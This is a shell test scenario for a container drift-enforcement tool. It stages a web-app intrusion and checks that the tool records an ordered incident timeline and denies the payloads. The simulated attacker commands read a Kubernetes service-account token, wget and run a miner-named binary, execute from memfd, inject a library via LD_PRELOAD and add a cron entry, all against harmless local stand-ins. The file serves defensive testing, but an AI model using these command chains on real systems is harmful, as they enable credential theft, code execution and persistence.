# SPDX-License-Identifier: GPL-2.0-only
# desc: an intrusion through a web application in a container is one incident of the timeline, told in order, in text, JSON and as a page
# check: 6.12
# vm: shared
# timeout: 240
. /driftbolt/scenarios/lib.sh
. /driftbolt/scenarios/lib/container.sh
hello=$PROBES/hello

# What the attacker's machine has: of sizes that the image has, so that the kernel computes their digests.
mkdir attacker
changed() { cp "$1" "$2" && printf z | dd of="$2" bs=1 seek=$(($(stat -c %s "$2") - 1)) conv=notrunc status=none; }
need changed "$hello" attacker/xmrig
need changed "$PROBES/libmark.so" attacker/libmark.so
tool=$(sha256sum <attacker/xmrig | cut -d' ' -f1)
library=$(sha256sum <attacker/libmark.so | cut -d' ' -f1)

need driftbolt load --mode enforce --scope containers --name shop "$MANIFESTS/payload.manifest"
at_end driftbolt unload
container_config plain "$W/shop"
container_start crun
# Its web server, on the container's loopback.
need nsenter -t "$(head -n 1 "/sys/fs/cgroup$C_CGROUP/cgroup.procs")" -n sh -c 'ip link set lo up && exec busybox httpd -p 127.0.0.1:80 -h "$1"' sh "$W/attacker"
at_end pkill -x -f "'busybox httpd .*'" '|| :'
need inside mkdir -p /run/secrets/kubernetes.io/serviceaccount /etc/cron.d
need inside_sh 'echo secret >/run/secrets/kubernetes.io/serviceaccount/token; mkfifo /run/requests /run/ended'
inside_sh '{ python3 /driftbolt/scenarios/zoo/webapp.py /run/requests; echo >/run/ended; } >/dev/null 2>&1 &'
# ask COMMAND: what the hole of the application lets an attacker run.
ask() { timeout 30 sh -c 'printf "%s\n" "$1" >"$2"' sh "$1" "$C_ROOT/run/requests"; }

need ask 'id; cat /run/secrets/kubernetes.io/serviceaccount/token'
need ask "cd /tmp; busybox wget 127.0.0.1/xmrig; chmod 755 xmrig; /tmp/xmrig"
need ask "tryexec memfd $hello"
need ask 'cd /tmp; busybox wget 127.0.0.1/libmark.so; LD_PRELOAD=/tmp/libmark.so ls /'
need ask 'echo "* * * * * root /tmp/xmrig" >/etc/cron.d/update'
need ask stop
need timeout 60 cat "$C_ROOT/run/ended"
container_stop

case_ok "the timeline" sh -c "COLUMNS=200 driftbolt timeline >$W/story"
sed 's/^/# /' story
case_output "one incident" 1 sh -c "driftbolt timeline --json | grep -c '\"incident\"'"
# told NAME PATTERN: in the story, behind what was told before.
at=0
told() {
	local line
	line=$(tail -n "+$((at + 1))" "$W/story" | grep -n -m 1 -- "$2" | cut -d: -f1)
	case_ok "$1, in its order" test -n "$line"
	at=$((at + ${line:-0}))
}
told "the application" 'webapp.py'
told "the child shell that reads the token" 'serviceaccount/token'
told "the downloaded tool" 'busybox wget 127.0.0.1/xmrig'
told "the program in memory" 'memfd'
told "the library" 'busybox wget 127.0.0.1/libmark.so'
told "the cron entry" 'cron.d/update'
# What was refused, by verdict, kind, reason and digest: words of a command line are in an alert, too.
cat >wanted <<-END
	deny exec drift $tool /tmp/xmrig
	deny exec memory-file - /memfd:tryexec (deleted)
	deny map drift $library /tmp/libmark.so
END
refused() { python3 "$D/scenarios/lib/timeline.py" "$@" | grep -v '^alert '; }
case_ok "what was downloaded arrived" cmp "$W/attacker/xmrig" "$C_ROOT/tmp/xmrig"
case_output "three refusals, in order, each with its digest" "$(cat wanted)" sh -c 'driftbolt timeline --json | python3 "$1" json | grep -v "^alert "' sh "$D/scenarios/lib/timeline.py"
case_ok "a page" driftbolt timeline --html "$W/page.html"
case_ok "which asks no network" grep -q "Content-Security-Policy" "$W/page.html"
case_output "and has them, too" "$(cat wanted)" refused page "$W/page.html"
